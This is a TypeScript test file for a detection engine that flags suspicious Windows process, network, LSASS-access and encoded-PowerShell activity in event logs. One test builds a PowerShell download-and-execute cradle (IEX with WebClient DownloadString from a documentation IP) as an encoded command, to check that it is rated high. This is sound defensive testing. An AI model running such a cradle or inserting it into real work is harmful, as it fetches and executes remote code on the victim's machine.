import { describe, expect, it } from 'vitest';
import { findUnclassified } from '../../../src/engine/verdict';
import { MAX_UNCLASSIFIED_EVENT_REFS, MAX_UNCLASSIFIED_ITEMS } from '../../../src/engine/verdict/unclassified';
import { MIN_BASE64_BLOCK, encodedPayload } from '../../../src/engine/verdict/unclassified/encoded';
import { RARE_BASELINE_EVENTS } from '../../../src/engine/verdict/unclassified/rare-errors';
import { backgroundEvents, makeAttestation, makeEvent, makeIndicator, processStart } from './builders';

const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const TEMP_PAYLOAD = 'C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe';

/** PowerShell -EncodedCommand text: base64 of UTF-16LE. */
function encodeCommand(script: string): string {
  const bytes = new Uint8Array(script.length * 2);
  for (let i = 0; i < script.length; i++) bytes[i * 2] = script.charCodeAt(i);
  return Buffer.from(bytes).toString('base64');
}

describe('process heuristics', () => {
  it('flags a binary from a user-writable folder started by Office (high) or a browser (medium)', () => {
    const items = findUnclassified([processStart('0:1', TEMP_PAYLOAD, WORD), processStart('0:2', 'C:\\Users\\bob\\Downloads\\setup.exe', CHROME)], [], []);
    expect(items.map((i) => [i.severity, i.eventIds])).toEqual([['high', ['0:1']], ['medium', ['0:2']]]);
    expect(items[0].reason).toContain('user-writable folder');
  });

  it('leaves the same binary alone when an ordinary parent started it, or when it is the parent application\'s own component', () => {
    const perUserChrome = 'C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\Application\\chrome.exe';
    const items = findUnclassified([
      processStart('0:1', TEMP_PAYLOAD, 'C:\\Windows\\explorer.exe'),
      processStart('0:2', 'C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\Application\\120.0\\Installer\\setup.exe', perUserChrome),
    ], [], []);
    expect(items).toEqual([]);
  });

  it('flags Office starting a shell, a double extension, a system binary name outside System32 and the Recycle Bin', () => {
    const items = findUnclassified([
      processStart('0:1', 'C:\\Windows\\System32\\cmd.exe', WORD),
      processStart('0:2', 'C:\\Users\\bob\\Desktop\\invoice.pdf.exe', 'C:\\Windows\\explorer.exe'),
      processStart('0:3', 'C:\\Users\\Public\\svchost.exe', 'C:\\Windows\\explorer.exe'),
      processStart('0:4', 'C:\\$Recycle.Bin\\S-1-5-21-1\\a.exe', 'C:\\Windows\\System32\\cmd.exe'),
      processStart('0:5', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\services.exe'),
      processStart('0:6', 'C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\userinit.exe'),
    ], [], []);
    expect(items.map((i) => i.eventIds[0])).toEqual(['0:1', '0:2', '0:3', '0:4']);
    expect(items.every((i) => i.severity === 'high')).toBe(true);
    expect(items[2].reason).toContain('name of a Windows system binary');
  });

  it('flags logon-screen backdoors, document viewers starting shells, PowerShell-started payloads and RDP client drives', () => {
    const items = findUnclassified([
      processStart('0:1', 'C:\\Windows\\System32\\whoami.exe', 'C:\\Windows\\System32\\osk.exe'),
      processStart('0:2', 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\hh.exe'),
      processStart('0:3', 'C:\\Users\\c\\AppData\\Local\\Temp\\word\\x.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'),
      processStart('0:4', '\\\\tsclient\\c\\temp\\a.exe', 'C:\\Windows\\explorer.exe'),
      processStart('0:5', 'C:\\Windows\\System32\\osk.exe', 'C:\\Windows\\System32\\utilman.exe'),
    ], [], []);
    expect(items.map((i) => [i.severity, i.eventIds[0]])).toEqual([['high', '0:1'], ['high', '0:2'], ['medium', '0:3'], ['medium', '0:4']]);
    expect(items[0].reason).toContain('logon-screen backdoor');
  });

  it('rates a long base64 command by what it decodes to', () => {
    const payload = encodeCommand("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1'); Start-Sleep 5; Write-Output done; exit 0");
    const data = Buffer.from('x'.repeat(10) + 'harmless configuration payload with numbers 1234567890 '.repeat(3)).toString('base64');
    const items = findUnclassified([
      processStart('0:1', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Windows\\explorer.exe', `powershell -nop -enc ${payload}`),
      processStart('0:2', 'C:\\Tools\\agent.exe', 'C:\\Windows\\explorer.exe', `agent.exe --config ${data}`),
    ], [], []);
    expect(items.map((i) => i.severity)).toEqual(['high', 'medium']);
    expect(items[0].reason).toMatch(/Invoke-Expression.*download call.*URL/);
  });

  it('skips short, hex-only and single-case runs', () => {
    expect(encodedPayload('x '.concat('a1B2'.repeat((MIN_BASE64_BLOCK - 4) / 4)))).toBeNull();
    expect(encodedPayload('sha256 ' + 'ab12'.repeat(64))).toBeNull();
    expect(encodedPayload('AAAA'.repeat(60))).toBeNull();
  });
});

describe('other heuristics', () => {
  it('flags script hosts connecting out to public addresses, not to private ones or inbound', () => {
    const connect = (id: string, image: string, ip: string, initiated = 'true') =>
      makeEvent(id, 'network_connection', { Image: image, DestinationIp: ip, DestinationPort: '443', Initiated: initiated });
    const items = findUnclassified([
      connect('0:1', 'C:\\Windows\\System32\\mshta.exe', '198.51.10.7'),
      connect('0:2', 'C:\\Windows\\System32\\mshta.exe', '10.1.2.3'),
      connect('0:3', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '8.8.8.8'),
      connect('0:4', 'C:\\Windows\\System32\\wscript.exe', '8.8.4.4', 'false'),
      connect('0:5', 'C:\\Program Files\\App\\app.exe', '8.8.8.8'),
    ], [], []);
    expect(items.map((i) => [i.severity, i.eventIds[0], i.indicators])).toEqual([
      ['high', '0:1', ['ipv4:198.51.10.7']],
      ['medium', '0:3', ['ipv4:8.8.8.8']],
    ]);
  });

  it('flags LSASS memory reads by programs outside the system and program folders', () => {
    const access = (id: string, source: string, granted: string) =>
      makeEvent(id, 'process_access', { SourceImage: source, TargetImage: 'C:\\Windows\\system32\\lsass.exe', GrantedAccess: granted });
    const items = findUnclassified([
      access('0:1', 'C:\\Users\\bob\\Desktop\\m.exe', '0x1010'),
      access('0:2', 'C:\\Users\\bob\\Desktop\\m.exe', '0x1000'),
      access('0:3', 'C:\\Windows\\system32\\wininit.exe', '0x1410'),
    ], [], []);
    expect(items.map((i) => i.eventIds)).toEqual([['0:1']]);
  });

  it('keeps a LSASS read by a known process monitor, low, with the reason it is taken for benign', () => {
    const access = (id: string, source: string) =>
      makeEvent(id, 'process_access', { SourceImage: source, TargetImage: 'C:\\Windows\\system32\\lsass.exe', GrantedAccess: '0x1fffff' });
    const items = findUnclassified([access('0:1', 'C:\\Users\\t\\AppData\\Local\\Temp\\Procmon64.exe'), access('0:2', 'C:\\Users\\t\\procmon-x.exe')], [], []);
    const bySeverity = Object.fromEntries(items.map((i) => [i.severity, i]));
    expect(bySeverity.low?.reason).toContain('Sysinternals Process Monitor');
    expect(bySeverity.high?.eventIds).toEqual(['0:2']);
  });

  it('flags critical/high rated indicators no attestation covers, not false positives', () => {
    const indicators = [
      makeIndicator('domain', 'evil.example', 'critical', { eventIds: ['0:1'] }),
      makeIndicator('domain', 'covered.example', 'critical', { eventIds: ['0:2'] }),
      makeIndicator('domain', 'fp.example', 'critical', { eventIds: ['0:1'], falsePositive: true }),
      makeIndicator('domain', 'meh.example', 'high', { eventIds: ['0:1'] }),
      makeIndicator('domain', 'unrated.example', 'unknown', { eventIds: ['0:1'] }),
    ];
    const items = findUnclassified([makeEvent('0:1', 'dns_query'), makeEvent('0:2', 'dns_query')], [makeAttestation('a1', 'low', { eventIds: ['0:2'] })], indicators);
    expect(items.map((i) => [i.severity, i.indicators])).toEqual([['high', ['domain:evil.example']], ['medium', ['domain:meh.example']]]);
  });

  it('flags error events that are rare on a host with enough baseline, at low severity', () => {
    const error = (id: string, eventId: string) => makeEvent(id, 'log', { Level: '2', Provider_Name: 'Service Control Manager', EventID: eventId });
    const baseline = backgroundEvents(RARE_BASELINE_EVENTS);
    const frequent = ['0:2', '0:3', '0:4'].map((id) => error(id, '7000'));
    const items = findUnclassified([error('0:1', '7031'), ...frequent, ...baseline], [], []);
    expect(items.map((i) => [i.severity, i.eventIds])).toEqual([['low', ['0:1']]]);
    expect(findUnclassified([error('0:1', '7031'), ...baseline.slice(0, 10)], [], [])).toEqual([]);
  });
});

describe('bounds and attestation coverage', () => {
  it('survives hostile field values and keeps reasons short', () => {
    const huge = 'C:\\Users\\Public\\' + 'A'.repeat(1 << 20) + '\\svchost.exe';
    const events = [
      processStart('0:1', huge, WORD, 'powershell -enc ' + 'QUJD'.repeat(1 << 18)),
      makeEvent('0:2', 'process_creation', { Image: 42, ParentImage: null, CommandLine: true }),
      makeEvent('0:3', 'network_connection', { Image: 'C:\\Windows\\System32\\mshta.exe', DestinationIp: '999.1.1.1' }),
      makeEvent('0:4', 'process_access', { SourceImage: 'x', TargetImage: 'lsass.exe', GrantedAccess: 'not-hex' }),
    ];
    const items = findUnclassified(events, [], []);
    expect(items.length).toBeGreaterThan(0);
    for (const item of items) expect(item.reason.length).toBeLessThan(1000);
  });

  it('skips events that an attestation explains', () => {
    expect(findUnclassified([processStart('0:1', TEMP_PAYLOAD, WORD)], [makeAttestation('a1', 'high', { eventIds: ['0:1'] })], [])).toEqual([]);
  });

  it('aggregates repeats into one item that counts them and keeps MAX_UNCLASSIFIED_EVENT_REFS ids', () => {
    const events = Array.from({ length: 80 }, (_, i) => processStart(`0:${i}`, TEMP_PAYLOAD, WORD));
    const items = findUnclassified(events, [], []);
    const writable = items.find((i) => i.reason.includes('user-writable'));
    expect(writable?.reason).toContain('80 times');
    expect(writable?.eventIds.length).toBe(MAX_UNCLASSIFIED_EVENT_REFS);
  });

  it('keeps at most MAX_UNCLASSIFIED_ITEMS items and sums the overflow into the last one', () => {
    const events = Array.from({ length: MAX_UNCLASSIFIED_ITEMS + 30 }, (_, i) => processStart(`0:${i}`, `C:\\Users\\bob\\AppData\\Local\\Temp\\p${i}.exe`, WORD));
    const items = findUnclassified(events, [], []);
    expect(items.length).toBe(MAX_UNCLASSIFIED_ITEMS);
    expect(items[items.length - 1].reason).toMatch(/^31 further kinds of odd activity \(31 occurrences/);
    expect(new Set(items.map((i) => i.id)).size).toBe(items.length);
  });
});
